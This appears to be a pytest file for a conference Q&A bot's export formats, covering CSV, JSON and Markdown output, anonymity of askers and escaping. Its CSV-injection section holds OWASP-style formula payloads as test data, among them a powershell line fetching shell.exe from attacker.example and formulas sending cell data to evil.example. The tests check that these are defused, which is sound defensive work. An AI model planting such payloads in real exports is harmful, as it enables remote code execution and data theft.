"""Export formats on plain data: per session, by votes, readable for speakers, anonymous askers kept anonymous."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import unicodedata

import pytest

from bot.qa import Question, SessionSettings, Status
from bot.qa.export import escape_markdown, listing_table, render_export, to_csv, to_json, to_markdown
from bot.schedule.loader import parse_schedule

AT = dt.datetime(2026, 5, 4, 9, 30, tzinfo=dt.UTC)


def question(
    qid: int,
    text: str,
    *,
    session: str = "talk-1",
    votes: int = 0,
    status: Status = Status.QUEUED,
    anonymous: bool = False,
    name: str = "Ada",
) -> Question:
    return Question(qid, session, f"id-{qid}", name, anonymous, text, AT, status, votes, None, None)


QUESTIONS = [
    question(1, "How does it scale?", votes=5),
    question(2, "Who funds this?", votes=2, anonymous=True, name="Secret Sam"),
    question(3, "Any *benchmarks*?", session="talk-2", status=Status.ANSWERED),
]


def test_csv_has_one_row_per_question_with_its_position_in_the_session() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(QUESTIONS))))

    assert [(r["session_id"], r["position"], r["question_id"], r["votes"], r["status"]) for r in rows] == [
        ("talk-1", "1", "1", "5", "queued"),
        ("talk-1", "2", "2", "2", "queued"),
        ("talk-2", "1", "3", "0", "answered"),
    ]
    assert rows[0]["asked_at"] == "2026-05-04T09:30:00Z"


def test_json_groups_questions_by_session() -> None:
    document = json.loads(to_json(QUESTIONS))

    assert [s["session_id"] for s in document["sessions"]] == ["talk-1", "talk-2"]
    assert [q["question_id"] for q in document["sessions"][0]["questions"]] == [1, 2]


def test_markdown_has_a_heading_per_session_and_numbered_questions_with_votes_and_status() -> None:
    text = to_markdown(QUESTIONS)

    assert "## Session talk-1" in text
    assert "## Session talk-2" in text
    assert "1. How does it scale?  \n   *5 votes · queued · asked by Ada*" in text
    assert "1. Any \\*benchmarks\\*?  \n   *0 votes · answered · asked by Ada*" in text


def test_markdown_says_so_when_there_are_no_questions() -> None:
    assert "No questions." in to_markdown([])


def test_markdown_escaping_keeps_text_from_becoming_markup() -> None:
    assert escape_markdown("# not a heading") == "\\# not a heading"
    assert escape_markdown("1. not a list") == "1\\. not a list"
    assert escape_markdown("- not a bullet") == "\\- not a bullet"
    assert escape_markdown("<b>[link](x)</b>") == "\\<b\\>\\[link\\](x)\\</b\\>"


def test_no_format_shows_the_name_or_id_of_an_anonymous_asker() -> None:
    for rendered in (to_csv(QUESTIONS), to_json(QUESTIONS), to_markdown(QUESTIONS)):
        assert "Secret Sam" not in rendered
        assert "id-2" not in rendered
        assert "anonymous" in rendered


def test_the_listing_ranks_queued_questions_and_shows_the_asker() -> None:
    listing = listing_table(
        [question(7, "On stage?", status=Status.ON_STAGE, votes=9), *QUESTIONS[:2]],
        {"talk-1": SessionSettings("talk-1", qa_open=True, pre_moderation=False)},
    )

    lines = listing.splitlines()
    assert lines[0] == "Session talk-1 (Q&A open)"
    assert lines[1].split() == ["rank", "votes", "status", "id", "asker", "question"]
    assert lines[2].split()[:5] == ["-", "9", "on_stage", "7", "Ada"]
    assert lines[3].split()[:5] == ["1", "5", "queued", "1", "Ada"]
    assert lines[4].split()[:5] == ["2", "2", "queued", "2", "anonymous"]
    assert "Secret Sam" not in listing


def test_the_listing_shortens_long_questions() -> None:
    listing = listing_table([question(1, "word " * 40)], {})

    assert "…" in listing
    assert max(len(line) for line in listing.splitlines()) < 120


# --- CSV cells a spreadsheet would run (OWASP "CSV Injection") ---------------------------------------------------

OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '@HYPERLINK("http://evil.example","click")',
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\ufe661+1",
    "-1 is wrong?",
]


def _could_run(cell: str) -> bool:
    """A spreadsheet's view: the cell opens with a tab or CR, or its first visible character starts a formula."""
    if cell[:1] in ("\t", "\r"):
        return True
    visible = "".join(c for c in cell if not c.isspace() and c != '"' and unicodedata.category(c) != "Cf")
    return unicodedata.normalize("NFKC", visible[:1])[:1] in ("=", "+", "-", "@")


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_csv_cells_that_could_start_a_formula_are_shown_as_text(payload: str) -> None:
    attack = Question(1, payload, "id-1", payload, False, payload, AT, Status.QUEUED, 3, None, None)

    (row,) = _csv_rows(to_csv([attack]))

    for column in ("session_id", "asker", "text"):
        assert not _could_run(row[column]), (column, row[column])
        assert row[column] == "'" + payload
    assert (row["position"], row["question_id"], row["votes"]) == ("1", "1", "3")


def test_csv_cells_are_guarded_where_a_semicolon_spreadsheet_starts_a_cell() -> None:
    # Excel set to a ";" list separator starts a new cell at every ";" of a comma-separated file, quoted or not.
    text = 'Great talk; =HYPERLINK("http://evil.example/?"&A1,"more");@SUM(1+1); fine'
    attack = question(1, text, name="Eve;-1+1")

    exported = to_csv([attack])

    for line in exported.splitlines():
        for cell in line.split(";")[1:]:
            assert not _could_run(cell), cell
    (row,) = _csv_rows(exported)
    assert row["text"] == 'Great talk;\' =HYPERLINK("http://evil.example/?"&A1,"more");\'@SUM(1+1); fine'
    assert row["asker"] == "Eve;'-1+1"


def test_csv_leaves_ordinary_text_and_negative_numbers_alone() -> None:
    plain = question(1, "What does 1+1 give? Is -1 ok? a=b; c", votes=-2, name="O'Brien")

    (row,) = _csv_rows(to_csv([plain]))

    assert row["text"] == "What does 1+1 give? Is -1 ok? a=b; c"
    assert row["asker"] == "O'Brien"
    assert row["votes"] == "-2"
    assert row["asked_at"] == "2026-05-04T09:30:00Z"


# --- Markdown headed from the schedule -------------------------------------------------------------------------

SCHEDULE = parse_schedule(
    """\
event: {name: Test Workshop, timezone: Europe/Vienna, date: 2024-05-11}
sessions:
  - {id: talk-2, title: "Invited Talk 2", kind: talk, start: "09:30", end: "10:00"}
  - {id: talk-1, title: "Invited Talk 1", kind: talk, start: "09:00", end: "09:30",
     speakers: [{name: Andrew Wilson, affiliation: New York University}, {name: Ada Lovelace}]}
  - {id: late, title: "# <b>Night</b> *talk*", kind: talk, start: "22:00", end: "23:00",
     speakers: [{name: "[Eve](http://evil.example)", affiliation: "1. _Uni_"}]}
""",
    "day.yaml",
)


def test_markdown_with_the_schedule_heads_each_session_with_title_speakers_and_venue_time() -> None:
    text = to_markdown(QUESTIONS, schedule=SCHEDULE)

    assert "## Session" not in text
    assert (
        "## Invited Talk 1 — Andrew Wilson (New York University), Ada Lovelace\n\n"
        "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna\n\n"
        "1. How does it scale?  \n"
    ) in text
    assert "## Invited Talk 2\n\nSaturday 11 May 2024, 09:30–10:00 Europe/Vienna\n\n1. Any" in text


def test_markdown_with_the_schedule_orders_sessions_by_start_time() -> None:
    questions = [question(1, "Late?", session="late"), question(2, "Second?", session="talk-2"), *QUESTIONS[:1]]

    headings = [line for line in to_markdown(questions, schedule=SCHEDULE).splitlines() if line.startswith("## ")]

    assert [h.split(" — ")[0] for h in headings] == [
        "## Invited Talk 1",
        "## Invited Talk 2",
        "## \\# \\<b\\>Night\\</b\\> \\*talk\\*",
    ]


def test_markdown_keeps_organizer_text_in_headings_escaped() -> None:
    text = to_markdown([question(1, "Late?", session="late")], schedule=SCHEDULE)

    assert (
        "## \\# \\<b\\>Night\\</b\\> \\*talk\\* — \\[Eve\\](http://evil.example) (1\\. \\_Uni\\_)\n\n"
        "Saturday 11 May 2024, 22:00–23:00 Europe/Vienna"
    ) in text


def test_markdown_keeps_an_id_heading_for_a_session_the_schedule_does_not_know() -> None:
    questions = [question(1, "Removed talk?", session="gone-*1*"), *QUESTIONS[:1]]

    text = to_markdown(questions, schedule=SCHEDULE)

    assert "## Session gone-\\*1\\*\n\nNot in the schedule.\n\n1. Removed talk?" in text
    assert text.index("## Invited Talk 1") < text.index("## Session gone")


def test_markdown_export_uses_the_schedule_it_is_given() -> None:
    assert "## Invited Talk 1" in render_export(QUESTIONS, "md", SCHEDULE)
    assert "## Session talk-1" in render_export(QUESTIONS, "md")
